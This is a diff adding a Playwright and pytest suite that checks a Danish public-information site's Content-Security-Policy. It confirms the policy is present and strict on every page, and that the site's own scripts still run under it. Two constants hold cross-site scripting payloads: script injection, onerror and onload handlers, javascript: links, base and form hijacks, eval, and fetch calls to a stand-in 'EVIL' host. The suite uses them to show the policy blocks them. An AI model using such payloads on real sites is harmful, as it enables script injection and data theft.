@@ -1,0 +1,366 @@
+"""The content policy: on every page, true of what stands there, and kept by a real browser."""
+
+from __future__ import annotations
+
+import re
+import shutil
+from collections.abc import Iterator
+from contextlib import contextmanager
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+from conftest import ROOT, served, watching
+from editions import published
+from playwright.sync_api import Browser, Page, expect
+
+from generator.model.archive import Archive
+from generator.pages.standalone import embed_files, frozen_files
+from generator.publishing.content_policy import allowing, hash_source
+
+# Kinds of pages: the theme's own, hand-written, a page that is not there, and one that stands alone.
+PAGES = [
+    "",
+    "tidslinje/",
+    "aftaler/pagt/",
+    "sammenlign/",
+    "sammenlign/pagt/2021/",
+    "initiativer/mit-overblik/",
+    "oplysninger/2021/digital-infrastruktur/aarlige-midler/",
+    "indlejr/",
+    "indlejr/initiativer/mit-overblik/",
+    "penge/",
+    "frister/",
+    "data/",
+    "data/versioner/",
+    "rettelser/",
+    "metode/",
+    "ordliste/",
+    "bidrag/",
+    "om/",
+    "404.html",
+]
+
+
+class Head(HTMLParser):
+    """What a policy is about, of one page."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.first_in_head: dict[str, str] = {}
+        self.inline: list[tuple[str, str]] = []
+        self.attributes: list[tuple[str, str, str]] = []
+        self._is_head = False
+        self._text: list[str] | None = None
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        values = {name: value or "" for name, value in attrs}
+        if self._is_head and not self.first_in_head:
+            self.first_in_head = values
+        self._is_head = self._is_head or tag == "head"
+        self.attributes += [(tag, name, value) for name, value in values.items()]
+        # Other types are data; a browser neither runs them nor asks the policy.
+        if tag == "style" or (tag == "script" and "src" not in values and not values.get("type")):
+            self._text = []
+
+    def handle_data(self, data: str) -> None:
+        if self._text is not None:
+            self._text.append(data)
+
+    def handle_endtag(self, tag: str) -> None:
+        if tag in {"script", "style"} and self._text is not None:
+            self.inline.append((tag, "".join(self._text)))
+            self._text = None
+
+    @property
+    def policy(self) -> dict[str, list[str]]:
+        parts = [part.split() for part in self.first_in_head.get("content", "").split(";")]
+        return {name: sources for name, *sources in parts}
+
+
+def _assert_true(html: str, where: object) -> None:
+    head = Head(html)
+    assert head.first_in_head.get("http-equiv") == "Content-Security-Policy", where
+    policy = head.policy
+    assert policy["default-src"] == policy["base-uri"] == policy["form-action"] == ["'none'"], where
+    assert not [source for sources in policy.values() for source in sources if "unsafe" in source], where
+    for kind in ("script", "style"):
+        here = {hash_source(text) for tag, text in head.inline if tag == kind}
+        allowed = {source for source in policy.get(f"{kind}-src", ()) if source.startswith("'sha")}
+        assert here == allowed, (
+            where,
+            kind,
+            "write these into site_src/overrides/partials/content-policy.html",
+        )
+    for tag, name, value in head.attributes:
+        assert name != "style", (where, tag, value)
+        assert not name.startswith("on"), (where, tag, value)
+        assert not value.lower().startswith("javascript:"), (where, tag, value)
+    assert "charset" in html[:1024], (where, "a browser looks for it no further")
+
+
+def test_every_page_says_first_what_it_may_load_and_allows_just_what_stands_in_it(site: Path) -> None:
+    frozen_before = site / "fast"  # published pages are never rewritten
+    pages = [path for path in site.rglob("*.html") if frozen_before not in path.parents]
+    assert len(pages) > 200
+    for path in pages:
+        _assert_true(path.read_text(encoding="utf-8"), path.relative_to(site))
+
+
+def test_pages_that_stand_alone_allow_their_own_style_and_nothing_else(golden: Archive) -> None:
+    for file in (*frozen_files(published(golden)), *embed_files(published(golden))):
+        html = file.data.decode()
+        _assert_true(html, file.path)
+        assert "script-src" not in Head(html).policy
+        assert "frame-ancestors" not in html  # anybody may frame them
+
+
+def test_the_document_says_the_policy_that_the_pages_have(site: Path) -> None:
+    text = (ROOT / "docs" / "content-security-policy.md").read_text(encoding="utf-8")
+    for page in ("index.html", "indlejr/initiativer/mit-overblik/index.html"):
+        for name, sources in Head((site / page).read_text(encoding="utf-8")).policy.items():
+            plain = ["'sha256-…'" if source.startswith("'sha") else source for source in sources]
+            assert f"`{' '.join([name, *dict.fromkeys(plain)])}`" in text
+
+
+def test_only_the_script_of_the_preview_can_be_let_in() -> None:
+    page = b"<meta content=\"script-src 'self' 'sha256-x'\"><script>var livereload = 1</script></body>"
+    source = hash_source("var livereload = 1").encode()
+    assert allowing(page, b"var livereload").count(b"script-src 'self' " + source + b" 'sha256-x'") == 1
+    other = page.replace(b"var live", b"var other")
+    assert allowing(other, b"var livereload") == other
+    assert allowing(b"", b"var livereload") == b""
+
+
+WATCH = """
+globalThis.violations = [];
+globalThis.pwned = [];
+addEventListener("securitypolicyviolation", (event) =>
+  violations.push([event.effectiveDirective, event.blockedURI, event.sample].join(" ")), true);
+"""
+
+
+@pytest.fixture(scope="module")
+def watched(browser: Browser, address: str) -> Iterator[Page]:
+    """A page that keeps what its policy blocks, in `violations`."""
+    context = browser.new_context(base_url=address, locale="da-DK")
+    context.grant_permissions(["clipboard-read", "clipboard-write"])
+    context.add_init_script(WATCH)
+    page = context.new_page()
+    page.set_default_timeout(10_000)
+    yield page
+    context.close()
+
+
+def _assert_nothing_blocked(page: Page) -> None:
+    page.wait_for_timeout(150)
+    for frame in page.frames:
+        assert frame.evaluate("globalThis.violations") == [], frame.url
+
+
+@pytest.mark.parametrize("url", PAGES)
+def test_a_page_is_whole_under_its_policy(watched: Page, url: str) -> None:
+    said: list[str] = []
+    keep = lambda message: said.append(message.text) if "Policy" in message.text else None  # noqa: E731
+    watched.on("console", keep)
+    watched.goto(url, wait_until="networkidle")
+    assert watched.evaluate("document.querySelector('meta[http-equiv]').content.length") > 50
+    _assert_nothing_blocked(watched)
+    for frame in watched.locator("iframe").all():
+        frame.scroll_into_view_if_needed()
+    _assert_nothing_blocked(watched)
+    watched.remove_listener("console", keep)
+    assert said == []
+
+
+def test_light_and_dark_are_chosen_and_remembered(watched: Page) -> None:
+    watched.goto("om/")
+    watched.get_by_title("Skift til lyst udseende").click()
+    watched.get_by_title("Skift til mørkt udseende").click()
+    expect(watched.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
+    watched.goto("aftaler/pagt/")  # other depth, same root: the choice is kept by the inline scripts
+    expect(watched.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
+    assert watched.evaluate("__md_scope.href") == watched.evaluate("location.origin + '/'")
+    watched.get_by_title("Følg systemets udseende").click()
+    _assert_nothing_blocked(watched)
+
+
+def test_search_runs_and_marks_what_was_found(watched: Page) -> None:
+    watched.goto("metode/", wait_until="networkidle")
+    box = watched.get_by_role("textbox", name="Søg")
+    box.click()
+    box.press_sequentially("kørekort zzzz")
+    results = watched.locator(".md-search-result__list > li")
+    expect(results.first).to_be_visible()
+    expect(results.first.locator("mark").first).to_be_visible()
+    expect(results.first.locator(".as-found-kind").first).to_be_visible()
+    expect(results.first.locator("del")).to_have_text("zzzz")
+    assert "&lt;" not in results.first.inner_text()
+    watched.keyboard.press("Enter")
+    watched.wait_for_url("**/*h=*")
+    expect(watched.locator("mark[data-md-highlight]").first).to_be_visible()
+    _assert_nothing_blocked(watched)
+
+
+def test_what_our_scripts_do_they_may_do(watched: Page) -> None:
+    watched.goto("sammenlign/?fra=pagt&til=2021")
+    watched.locator("[data-as-picker] [type=submit]").click()
+    watched.wait_for_url("**/sammenlign/pagt/2021/")
+    watched.locator("[data-as-step]").last.click()
+    watched.locator("a.as-term").first.hover()
+    expect(watched.locator("#as-tip")).to_be_visible()
+    for details in watched.locator("details:has([data-as-copy])").all():
+        details.evaluate("details => { details.open = true; }")
+    copy = watched.locator("[data-as-copy]:visible").first
+    copy.click()
+    expect(watched.locator(".as-said").filter(has_text="Kopieret").first).to_be_visible()
+    _assert_nothing_blocked(watched)
+
+    watched.goto("tidslinje/")
+    watched.locator(".as-filter select").first.select_option(index=1)
+    expect(watched.locator(".as-count")).to_contain_text("af")
+    _assert_nothing_blocked(watched)
+
+    watched.goto("penge/")
+    watched.locator(".as-sort").first.click()
+    _assert_nothing_blocked(watched)
+
+    watched.goto("?siden=0.1.0")
+    expect(watched.locator(".as-since-box")).to_be_visible()
+    _assert_nothing_blocked(watched)
+
+
+def test_the_table_of_life_lines_has_its_columns_on_a_phone(watched: Page) -> None:
+    """Their number was a style of its own, which the policy does not let in."""
+    watched.set_viewport_size({"width": 360, "height": 800})
+    watched.goto("tidslinje/")
+    row = watched.locator(".as-line").first
+    columns = row.evaluate("row => getComputedStyle(row).gridTemplateColumns.split(' ').length")
+    assert columns == watched.locator(".as-lines thead th").count() - 1
+    watched.set_viewport_size({"width": 1280, "height": 800})
+
+
+INJECTED = """
+<script>pwned.push("script")</script>
+<script src="EVILx.js"></script>
+<script src="data:text/javascript,pwned.push('data')"></script>
+<img src="x" onerror="pwned.push('handler')">
+<svg onload="pwned.push('svg')"></svg>
+<style>h1 { color: rgb(1, 2, 3) }</style>
+<p style="position: fixed">stil</p>
+<link rel="stylesheet" href="EVILx.css">
+<img src="EVILx.png">
+<base href="EVIL">
+<iframe srcdoc="<script>parent.pwned.push('srcdoc')</script>"></iframe>
+<iframe src="EVIL"></iframe>
+<object data="EVILx.swf"></object>
+<form id="away" action="EVIL"><button>Send</button></form>
+<a id="run" href="javascript:pwned.push('address')">Kør</a>
+"""
+IN_A_SCRIPT = """
+for (const attempt of [
+  () => eval("pwned.push('eval')"),
+  () => new Function("pwned.push('Function')")(),
+  () => setTimeout("pwned.push('timeout')", 0),
+  () => document.body.append(Object.assign(document.createElement("script"), {text: "pwned.push('made')"})),
+  () => document.body.append(Object.assign(document.createElement("script"), {src: "EVILy.js"})),
+  () => document.querySelector("main").insertAdjacentHTML("beforeend", "<img id=made src=x onerror=pwned.push('html')>"),
+  () => fetch("EVILtaken").catch(() => {}),
+  () => new Worker(URL.createObjectURL(new Blob(["fetch('EVILw')"]))),
+  () => trustedTypes.createPolicy("own", {createHTML: (text) => text}),
+]) try { attempt(); } catch {}
+"""
+
+
+BLOCKED = {
+    "script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr", "img-src", "base-uri", "frame-src",
+    "object-src", "form-action", "connect-src",
+}  # fmt: skip
+TRUSTED_TYPES = re.compile('; require-trusted-types-for[^"]*')
+
+
+@pytest.mark.parametrize(
+    ("taken_out", "blocked"),
+    [
+        (None, {*BLOCKED, "require-trusted-types-for", "trusted-types"}),
+        (TRUSTED_TYPES, {*BLOCKED, "script-src", "worker-src"}),  # as in a browser that does not know them
+    ],
+    ids=["whole", "without trusted types"],
+)
+def test_what_gets_into_a_page_all_the_same_is_blocked(
+    browser: Browser, site: Path, tmp_path: Path, taken_out: re.Pattern[str] | None, blocked: set[str]
+) -> None:
+    """As if a template had let it through: markup in the page, and a script of ours that does what it should not."""
+    with _broken_into(browser, site, tmp_path, taken_out, INJECTED) as (page, address, reached):
+        page.locator("#run").click()
+        page.wait_for_timeout(500)
+        assert page.evaluate("pwned") == []
+        assert page.locator("h1").first.evaluate("h1 => getComputedStyle(h1).color") != "rgb(1, 2, 3)"
+        assert page.get_by_text("stil", exact=True).evaluate("p => getComputedStyle(p).position") == "static"
+        assert page.evaluate("document.baseURI") == f"{address}om/"
+        # Last, because Playwright waits for the page that never comes before it looks for anything more.
+        page.evaluate("document.getElementById('away').requestSubmit()")
+        page.evaluate("new Promise((done) => setTimeout(done, 300))")
+        assert page.evaluate("location.href") == f"{address}om/"
+        assert {violation.split()[0] for violation in page.evaluate("violations")} >= blocked
+        assert reached == []
+
+
+def test_without_the_policy_all_of_that_runs(browser: Browser, site: Path, tmp_path: Path) -> None:
+    """So that the test above is of the policy and of nothing else."""
+    injected = INJECTED.replace('<base href="EVIL">', "")  # or our own scripts would come from there
+    with _broken_into(browser, site, tmp_path, re.compile("<meta http-equiv[^>]*>"), injected) as (
+        page,
+        _,
+        reached,
+    ):
+        page.locator("#run").click()
+        page.wait_for_timeout(500)
+        ran = "script data handler svg srcdoc address eval Function timeout made html"
+        assert set(page.evaluate("pwned")) >= set(ran.split())
+        assert set(reached) >= {"/x.js", "/x.css", "/x.png", "/y.js", "/taken", "/"}
+
+
+@contextmanager
+def _broken_into(
+    browser: Browser, site: Path, tmp_path: Path, taken_out: re.Pattern[str] | None, injected: str
+) -> Iterator[tuple[Page, str, list[str]]]:
+    """A page of the site that markup and code got into, and what is asked of the host they name."""
+    copy = tmp_path / "sted"
+    shutil.copytree(site, copy, ignore=shutil.ignore_patterns("fast", "data", "indlejr", "feeds"))
+    with served(copy) as address, watching() as (evil, reached):
+        html = (site / "om" / "index.html").read_text(encoding="utf-8")
+        html = taken_out.sub("", html) if taken_out else html
+        html = html.replace("</h1>", f"</h1>{injected.replace('EVIL', evil)}", 1)
+        (copy / "om" / "index.html").write_text(html, encoding="utf-8")
+        with (copy / "assets" / "aftalespor.js").open("a", encoding="utf-8") as script:
+            script.write(IN_A_SCRIPT.replace("EVIL", evil))
+        context = browser.new_context(base_url=address)
+        context.add_init_script(WATCH)
+        page = context.new_page()
+        page.goto("om/", wait_until="load")
+        yield page, address, reached
+        context.close()
+
+
+def test_pages_of_a_new_version_can_be_framed_anywhere(
+    golden: Archive, browser: Browser, tmp_path: Path
+) -> None:
+    for file in embed_files(published(golden)):
+        path = tmp_path / "inde" / file.path
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(file.data)
+    name = next(path for path in (tmp_path / "inde").rglob("index.html") if "initiativer" in path.as_posix())
+    with served(tmp_path / "inde") as inner, served(tmp_path) as outer:
+        src = inner + name.parent.relative_to(tmp_path / "inde").as_posix() + "/"
+        (tmp_path / "ramme.html").write_text(f'<iframe src="{src}"></iframe>', encoding="utf-8")
+        context = browser.new_context()
+        context.add_init_script(WATCH)
+        page = context.new_page()
+        page.goto(f"{outer}ramme.html", wait_until="networkidle")
+        frame = page.frames[1]
+        expect(frame.locator("h1")).to_be_visible()
+        assert frame.evaluate("getComputedStyle(document.body).margin") == "0px"  # its own style
+        assert frame.evaluate("violations") == []
+        context.close()
